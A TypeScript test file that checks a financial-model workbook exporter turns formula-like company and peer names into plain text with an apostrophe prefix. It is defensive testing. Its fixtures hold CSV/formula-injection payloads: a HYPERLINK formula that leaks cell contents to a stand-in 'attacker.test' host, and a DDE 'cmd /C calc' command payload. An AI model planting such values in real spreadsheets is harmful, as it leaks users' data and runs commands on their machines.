/**
 * Text from users and documents never becomes a formula: a company, ticker or peer whose name
 * starts like a formula (`=`, `+`, `-`, `@`, tab, line break, full-width forms) is a string cell
 * that starts with an apostrophe, in the sheet XML and as exceljs reads the file back.
 */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildModelWorkbook } from './build-workbook.js';
import { spreadsheetText } from './cells.js';
import { SHEETS } from './layout.js';
import { packModel } from './pack-models.test-helper.js';
import type { TWorkbookInput } from './workbook-input.js';

const HOSTILE_NAME = '=HYPERLINK("http://attacker.test/?leak="&A1,"Click")';

describe('spreadsheetText', () => {
  it('prefixes an apostrophe to text that starts like a formula, and only to that', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠A1']) {
      expect(spreadsheetText(text), JSON.stringify(text)).toBe(`'${text}`);
    }
    for (const text of ['NVIDIA CORP', 'A=B', '3M CO', '', ' =1', '—', 'BRK.B']) {
      expect(spreadsheetText(text), JSON.stringify(text)).toBe(text);
    }
  });
});

describe('a workbook of a company and peers with hostile names', () => {
  let book: ExcelJS.Workbook;
  let zip: JSZip;
  beforeAll(async () => {
    const model = packModel('NVDA');
    const input: TWorkbookInput = {
      ...model,
      company: { ...model.company, name: HOSTILE_NAME, ticker: '+1+1', sector: '@SUM(1)' },
      comps: {
        peers: [
          {
            ticker: '-2+3',
            name: "=cmd|' /C calc'!A0",
            price: 10,
            priceDate: null,
            marketCap: 1e9,
            fiscalYear: 2024,
            multiples: { pe_lyr: 20 },
          },
          {
            ticker: 'AMD',
            name: '\t=1+1',
            price: 10,
            priceDate: null,
            marketCap: 1e9,
            fiscalYear: 2024,
            multiples: { pe_lyr: 30 },
          },
        ],
        subject: { shares: 2.4e10 as never, price: 100 as never, epsLyr: 3 as never },
        unavailable: {},
      },
    };
    const bytes = await buildModelWorkbook(input);
    book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    zip = await JSZip.loadAsync(bytes);
  });

  it('writes the company, its ticker and sector as text starting with an apostrophe', () => {
    const cover = book.getWorksheet(SHEETS.cover);
    expect(cover?.getCell('A1').value).toBe(`'${HOSTILE_NAME} (+1+1)`);
    const facts = new Map<string, unknown>();
    cover?.eachRow((row) => facts.set(String(row.getCell(1).value), row.getCell(2).value));
    expect(facts.get('Ticker')).toBe("'+1+1");
    expect(facts.get('Sector')).toBe("'@SUM(1)");
  });

  it('writes the peers’ tickers and names as text starting with an apostrophe', () => {
    const sheet = book.getWorksheet(SHEETS.comparables);
    const cells: unknown[] = [];
    sheet?.eachRow((row) => cells.push(row.getCell(1).value, row.getCell(2).value));
    expect(cells).toEqual(expect.arrayContaining(["'-2+3", "'=cmd|' /C calc'!A0", 'AMD', "'\t=1+1"]));
  });

  it('has no formula built from that text anywhere in the file', async () => {
    const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    for (const name of sheets) {
      const xml = (await zip.file(name)?.async('string')) ?? '';
      const formulas = [...xml.matchAll(/<f>([^<]*)<\/f>/g)].map((match) => match[1] ?? '');
      expect(
        formulas.filter((formula) => /HYPERLINK|cmd|SUM\(1\)/.test(formula)),
        name,
      ).toEqual([]);
    }
  });
});
